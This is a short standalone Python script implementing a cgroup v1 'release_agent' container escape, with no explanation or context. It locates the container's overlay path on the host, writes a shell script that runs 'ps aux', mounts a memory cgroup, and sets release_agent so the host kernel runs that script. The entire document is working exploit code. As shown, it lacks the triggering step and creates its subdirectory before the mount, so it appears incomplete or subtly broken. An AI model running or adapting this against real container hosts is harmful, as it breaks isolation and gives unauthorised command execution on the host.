import os
host_rootfs = None
for line in open("/proc/self/mountinfo"):
    if "upperdir=" in line:
        host_rootfs = line.split("upperdir=")[1].split(",")[0]
with open("/tmp/cmd", "w") as f:
    f.write("#!/bin/sh\nps aux > %s/out\n" % host_rootfs)
os.chmod("/tmp/cmd", 0o755)
os.makedirs("/tmp/cgrp/x", exist_ok=True)
os.system("mount -t cgroup -o memory cgroup /tmp/cgrp")
open("/tmp/cgrp/x/notify_on_release", "w").write("1")
open("/tmp/cgrp/release_agent", "w").write(host_rootfs + "/tmp/cmd")
